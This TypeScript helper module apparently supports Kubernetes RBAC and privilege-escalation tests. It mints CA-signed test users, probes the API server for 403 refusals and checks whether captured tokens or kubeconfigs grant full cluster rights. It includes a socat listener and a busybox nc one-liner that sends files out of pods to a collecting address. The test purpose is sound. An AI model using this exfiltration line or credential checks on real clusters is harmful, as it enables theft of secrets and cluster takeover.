import { setTimeout as sleep } from 'node:timers/promises';
import type { Has } from '../../__tests__/become/small-world';
import { grant } from '../../__tests__/become/small-world';
import { CommandOnMachineFailed, type Machine, until } from './machine';
import { repository } from './node';

const server = 'https://api.example.com:6443';
const authority = '/etc/kubernetes/pki/ca.crt';
const folder = '/root/people';
const address = '192.0.2.10';
const port = 9000;

/** An image with busybox, whose entrypoint sleeps. */
export const image = `${repository}/pause:3.10.1`;

/** A request with a status of 403, or a command of kubectl that ended so. */
export class RefusedOnNode extends Error {}

const refusal = (error: unknown): unknown =>
  error instanceof CommandOnMachineFailed && /"code": ?403|Forbidden|HTTP\/1\.1 403/.test(error.output)
    ? new RefusedOnNode(error.output)
    : error;

/** Somebody with a certificate of the cluster's authority and nothing on the node. */
export class PersonOnNode {
  private constructor(
    private readonly machine: Machine,
    readonly name: string,
  ) {}

  /** Makes the certificate, and binds the rights. */
  static async create(machine: Machine, name: string, has: readonly Has[]): Promise<PersonOnNode> {
    await machine.run(`set -e; mkdir -p ${folder}; cd ${folder}
openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout ${name}.key -out ${name}.csr -subj /CN=${name} 2> /dev/null
openssl x509 -req -in ${name}.csr -CA ${authority} -CAkey /etc/kubernetes/pki/ca.key -CAcreateserial -days 1 -out ${name}.crt 2> /dev/null`);
    const items = has.flatMap((part) => grant(name, part));
    await machine.kubectl('apply --validate=false -f -', JSON.stringify({ apiVersion: 'v1', kind: 'List', items }));
    const person = new PersonOnNode(machine, name);
    await person.waitFor(has);
    return person;
  }

  /** Waits until the API server has the bindings in its own copy. */
  private async waitFor(has: readonly Has[]): Promise<void> {
    for (const { namespace, rules } of has)
      for (const { verbs, apiGroups = [], resources = [], resourceNames = [] } of rules) {
        const [resource = '', subresource] = (resources[0] ?? '').split('/');
        const spec = {
          user: this.name,
          resourceAttributes: {
            verb: verbs[0],
            group: apiGroups[0],
            resource,
            subresource,
            name: resourceNames[0],
            namespace,
          },
        };
        const review = { apiVersion: 'authorization.k8s.io/v1', kind: 'SubjectAccessReview', spec };
        const question = 'create -o jsonpath={.status.allowed} -f -';
        while ((await this.machine.kubectl(question, JSON.stringify(review))) !== 'true') await sleep(100);
      }
  }

  /** @throws {@link RefusedOnNode} */
  async send(method: string, path: string, body?: object, type = 'application/json'): Promise<string> {
    const data = body ? `--header 'content-type: ${type}' --data @-` : '';
    return this.curl(`--fail-with-body --request ${method} ${data} '${server}${path}'`, body);
  }

  /** Runs curl with the certificate. @throws {@link RefusedOnNode} */
  async curl(args: string, body?: object): Promise<string> {
    const { machine, name } = this;
    const key = `--cert ${folder}/${name}.crt --key ${folder}/${name}.key`;
    return machine
      .run(`curl --silent --show-error --cacert ${authority} ${key} ${args}`, body ? JSON.stringify(body) : '')
      .catch((error) => {
        throw refusal(error);
      });
  }

  /** Upgrades a GET request to a WebSocket, and returns what the server writes to it. @throws {@link RefusedOnNode} */
  async webSocket(url: string): Promise<string> {
    const headers = [
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: a2FuaWZsdXgta2FuaWZsdQ==',
      'Sec-WebSocket-Protocol: v4.channel.k8s.io',
    ].map((header) => `--header '${header}'`);
    // The end of the stream is an error for curl.
    const answer = await this.curl(
      `--insecure --http1.1 --include --no-buffer --max-time 30 ${headers.join(' ')} '${url}' || true`,
    );
    if (/^HTTP\/1\.1 403/.test(answer)) throw new RefusedOnNode(answer);
    return answer;
  }

  /** @throws {@link RefusedOnNode} */
  async kubectl(args: string): Promise<string> {
    const { machine, name } = this;
    const key = `--client-certificate=${folder}/${name}.crt --client-key=${folder}/${name}.key`;
    return machine
      .run(`kubectl --kubeconfig=/dev/null --server=${server} --certificate-authority=${authority} ${key} ${args}`)
      .catch((error) => {
        throw refusal(error);
      });
  }
}

/** Who somebody is with a token, and whether they may do everything. */
export async function withToken(machine: Machine, token: string): Promise<{ user: string; everything: boolean }> {
  return asked(
    machine,
    `--kubeconfig=/dev/null --server=${server} --certificate-authority=${authority} --token=${token}`,
  );
}

/** The same with the text of a kubeconfig. */
export async function withKubeconfig(machine: Machine, text: string): Promise<{ user: string; everything: boolean }> {
  await machine.write('/root/taken.conf', text);
  return asked(machine, '--kubeconfig=/root/taken.conf');
}

async function asked(machine: Machine, options: string) {
  const user = await machine.run(`kubectl ${options} auth whoami -o jsonpath={.status.userInfo.username}`);
  const can = await machine.run(`kubectl ${options} auth can-i '*' '*' 2> /dev/null || true`);
  return { user, everything: can.trim() === 'yes' };
}

/** Where pods send what they have read: a server of the one who made them. */
export class Sink {
  private constructor(private readonly machine: Machine) {}

  static async open(machine: Machine): Promise<Sink> {
    await machine.run(
      `mkdir /root/taken; nohup socat -u TCP-LISTEN:${port},bind=${address},fork,reuseaddr SYSTEM:'read name; cat > /root/taken/$name.part; mv /root/taken/$name.part /root/taken/$name' > /dev/null 2>&1 & true`,
    );
    return new Sink(machine);
  }

  /** What a pod has sent under a name. */
  taken(name: string): Promise<string> {
    return until(`something is sent as ${name}`, () => this.machine.run(`cat /root/taken/${name}`), 240);
  }
}

/** A line for the shell of {@link image} that sends files under a name. */
export const sends = (name: string, files: string): string =>
  `(busybox echo ${name}; busybox cat ${files}) | busybox nc ${address} ${port}; busybox sleep 3600`;

export const shell = (script: string): string[] => ['/bin/busybox', 'sh', '-c', script];
